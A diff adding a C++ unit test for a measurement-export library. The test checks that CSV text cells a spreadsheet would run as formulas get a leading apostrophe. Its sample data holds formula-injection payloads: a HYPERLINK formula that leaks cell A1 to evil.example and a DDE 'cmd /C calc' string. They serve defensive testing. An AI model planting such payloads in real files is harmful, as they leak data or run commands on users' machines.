@@ -2,10 +2,17 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <clocale>
 #include <cmath>
+#include <cstdio>
+#include <cstdlib>
 #include <limits>
 #include <string>
+#include <vector>
+
+#include "files/AtomicFile.h"
+#include "files/tests/TempFolder.h"
 
 namespace kyvo {
 namespace {
@@ -162,6 +169,116 @@ TEST(ResultExport, anEmptySelectionGivesAnEmptyButWellFormedDocument) {
         "{\n  \"format\": \"kyvo-measurements\",\n  \"formatVersion\": 1,\n  \"program\": "
         "{\"name\": \"K\", \"version\": \"V\"},\n  \"measurements\": []\n}\n",
         ExportJson({}, {"K", "V"}));
+}
+
+// The CSV as Python's csv module (the reader spreadsheets' import follows)
+// splits it: rows of cells, the byte-order mark dropped. Empty when python3
+// is missing.
+std::vector<std::vector<std::string>> ParsedByPython(const std::string& csv) {
+    TempFolder dir;
+    const std::string file = dir.file("export.csv");
+    const std::string script = dir.file("split.py");
+    if (!writeFileAtomically(file, csv) ||
+        !writeFileAtomically(
+            script,
+            "import csv, sys\n"
+            "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+            "    for row in csv.reader(f):\n"
+            "        print(' '.join(c.encode('utf-8').hex() or '-' for c in row))\n"))
+        return {};
+    FILE* p = ::popen(("python3 " + script + " " + file + " 2>/dev/null").c_str(), "r");
+    if (!p) return {};
+    std::string text;
+    char buf[4096];
+    for (std::size_t n; (n = std::fread(buf, 1, sizeof buf, p)) > 0;) text.append(buf, n);
+    if (::pclose(p) != 0) return {};
+    std::vector<std::vector<std::string>> rows;
+    std::size_t at = 0;
+    for (std::size_t nl; (nl = text.find('\n', at)) != std::string::npos; at = nl + 1) {
+        std::vector<std::string> row;
+        std::size_t c = at;
+        while (c < nl) {
+            std::size_t end = text.find(' ', c);
+            if (end == std::string::npos || end > nl) end = nl;
+            std::string cell;
+            for (std::size_t i = c; i + 1 < end && text[c] != '-'; i += 2)
+                cell += static_cast<char>(std::stoi(text.substr(i, 2), nullptr, 16));
+            row.push_back(cell);
+            c = end + 1;
+        }
+        rows.push_back(row);
+    }
+    return rows;
+}
+
+// A spreadsheet runs a cell that starts with =, +, -, @ (or a tab or carriage
+// return before one) as a formula: every text cell of such a start gets a
+// leading apostrophe, a plain number stays a number, and JSON keeps the
+// texts exactly.
+TEST(ResultExport, csvTextCellsThatASpreadsheetWouldRunAsFormulasStartWithAnApostrophe) {
+    TMeasureSet m = SampleSet();
+    m.TestID = "=1+2 0042";
+    m.TestName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    m.LotNr = "+1+1";
+    m.Distr_Manu = "-2+3";
+    m.UserComment = "@SUM(A1:A9)";
+    m.Voltage = "-5";
+    m.ResultList = {{"Valid", "\t=1+1", "-3.5", "\r=cmd|' /C calc'!A0", "=1"},
+                    {"Invalid", "-", "-", "mg/l", "@x"},
+                    {"Valid", "CRP", "+4", "-", "normal"}};
+    const std::string csv = ExportCsv({&m}, ECsvForm::ResultRows);
+    const auto rows = ParsedByPython(csv);
+    if (rows.empty()) GTEST_SKIP() << "python3 is not installed";
+    ASSERT_EQ(rows.size(), 4u);
+    const std::vector<std::string>& head = rows[0];
+    const auto col = [&head](const std::string& name) {
+        return static_cast<std::size_t>(std::find(head.begin(), head.end(), name) - head.begin());
+    };
+    ASSERT_EQ(head.size(), 16u);
+    struct Expect {
+        std::size_t row;
+        std::string column, cell;
+    } expected[] = {
+        {1, "test_id", "'=1+2 0042"},
+        {1, "test_name", "'" + m.TestName},
+        {1, "lot_number", "'+1+1"},
+        {1, "distributor_manufacturer", "'-2+3"},
+        {1, "user_comment", "'@SUM(A1:A9)"},
+        {1, "voltage", "-5"},
+        {1, "result_name", "'\t=1+1"},
+        {1, "value", "-3.5"},
+        {1, "value_text", "-3.5"},
+        {1, "unit", "'\r=cmd|' /C calc'!A0"},
+        {1, "class", "'=1"},
+        {2, "result_name", "'-"},
+        {2, "value", ""},
+        {2, "value_text", "'-"},
+        {2, "class", "'@x"},
+        {3, "value_text", "'+4"},
+        {3, "unit", "'-"},
+        {3, "class", "normal"},
+    };
+    for (const Expect& e : expected) {
+        ASSERT_LT(col(e.column), head.size()) << e.column;
+        EXPECT_EQ(rows[e.row][col(e.column)], e.cell) << e.column << " of row " << e.row;
+    }
+    // No cell of the file is a formula; only a plain number starts with "-".
+    for (std::size_t r = 1; r < rows.size(); ++r) {
+        for (const std::string& cell : rows[r]) {
+            if (!cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string::npos) {
+                EXPECT_TRUE(ResultValueNumber(cell)) << "row " << r << ": " << cell;
+            }
+        }
+    }
+
+    const std::string json = ExportJson({&m}, {"K", "V"});
+    EXPECT_NE(
+        json.find("\"testName\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""),
+        std::string::npos);
+    EXPECT_NE(json.find("\"name\": \"\\t=1+1\", \"value\": -3.5, \"valueText\": \"-3.5\", "
+                        "\"unit\": \"\\r=cmd|' /C calc'!A0\", \"class\": \"=1\""),
+              std::string::npos);
+    EXPECT_EQ(json.find("'="), std::string::npos);
 }
 
 }  // namespace
